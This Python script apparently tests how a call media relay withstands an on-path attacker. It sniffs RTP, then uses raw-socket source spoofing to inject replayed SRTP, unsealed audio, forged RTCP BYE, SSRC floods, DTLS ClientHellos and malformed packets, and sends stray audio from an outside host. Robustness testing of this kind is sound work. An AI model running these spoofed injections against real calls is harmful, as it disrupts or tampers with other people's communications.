#!/usr/bin/env python3
"""What somebody on the network does to the media of a call: media_attack.py EDGE PEER OTHER, each HOST:PORT.

EDGE is our port towards PEER, whose SRTP it takes; OTHER is our port of the other leg, which is clear. All that it sends to EDGE
says that it comes from PEER, so that no source check keeps it away: packets that are heard on the wire once more, and late; sound
that is not sealed; forged RTCP BYE; a new SSRC in each packet; ClientHellos; pieces of packets, and packets that are too long.
OTHER gets sound and BYE from a host that has no part in the call. Prints how many it has sent of each."""
import math
import os
import socket
import struct
import sys
import time


def address(text):
    host, port = text.rsplit(':', 1)
    return host, int(port)


edge, peer, other = (address(a) for a in sys.argv[1:4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
stranger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
stranger.bind(('10.77.0.2', 0))
sent = {}


def spoof(kind, payload, source=peer):
    """As if it came from there: the kernel fills in checksum, length and identification of the IP header, and UDP may go without."""
    udp = struct.pack('!HHHH', source[1], edge[1], 8 + len(payload), 0)
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp) + len(payload), 0, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(source[0]), socket.inet_aton(edge[0]))
    raw.sendto(ip + udp + payload, (edge[0], 0))
    sent[kind] = sent.get(kind, 0) + 1


def mulaw(sample):
    sign, magnitude = (0x80, -sample) if sample < 0 else (0, sample)
    magnitude = min(magnitude, 32635) + 132
    exponent = magnitude.bit_length() - 8
    return ~(sign | exponent << 4 | magnitude >> exponent + 3 & 15) & 255


def sound(seq, ssrc=0x0bad0bad):
    """20 ms of 660 Hz."""
    body = bytes(mulaw(int(12000 * math.sin(2 * math.pi * 660 * (seq * 160 + i) / 8000))) for i in range(160))
    return struct.pack('!BBHII', 0x80, 0, seq & 0xffff, seq * 160 & 0xffffffff, ssrc) + body


def listen(n):
    """That many RTP packets on their way from the peer to us."""
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    tap.settimeout(5)
    heard = []
    while len(heard) < n:
        packet, where = tap.recvfrom(4096)
        at = (packet[0] & 15) * 4
        ports = struct.unpack_from('!HH', packet, at)
        payload = packet[at + 8:]
        if where[2] != socket.PACKET_OUTGOING and packet[9] == socket.IPPROTO_UDP and ports == (peer[1], edge[1]) and \
                len(payload) > 100 and payload[0] >> 6 == 2 and payload[1] & 127 < 64:
            heard.append(payload)
    return heard


heard = listen(20)
ssrc = struct.unpack_from('!I', heard[0], 8)[0]
bye = struct.pack('!BBHI', 0x80, 201, 1, ssrc) + struct.pack('!BBHI', 0x81, 203, 1, ssrc)
hello = bytes.fromhex('16feff000000000000000000') + b'\x00\x40' + os.urandom(64)
end = time.monotonic() + 2.5
seq = 0
while time.monotonic() < end:
    seq += 1
    spoof('replayed', heard[seq * 7 % len(heard)])  # out of their order, and each many times
    spoof('unsealed', sound(seq))
    spoof('unsealed', sound(seq, ssrc))
    spoof('bye', bye)
    for i in range(10):
        spoof('ssrc', sound(seq, 0x10000 + seq * 10 + i))
    for i in range(5):
        spoof('hello', hello)
    spoof('piece', heard[0][:seq % 12])
    spoof('piece', heard[0][:-seq % 100 - 1])
    spoof('long', sound(seq) + bytes(2000))
    for payload in (sound(seq), bye):
        stranger.sendto(payload, (other[0], other[1] + (payload is bye)))
    time.sleep(0.02)
print(' '.join('%s=%d' % item for item in sorted(sent.items())))
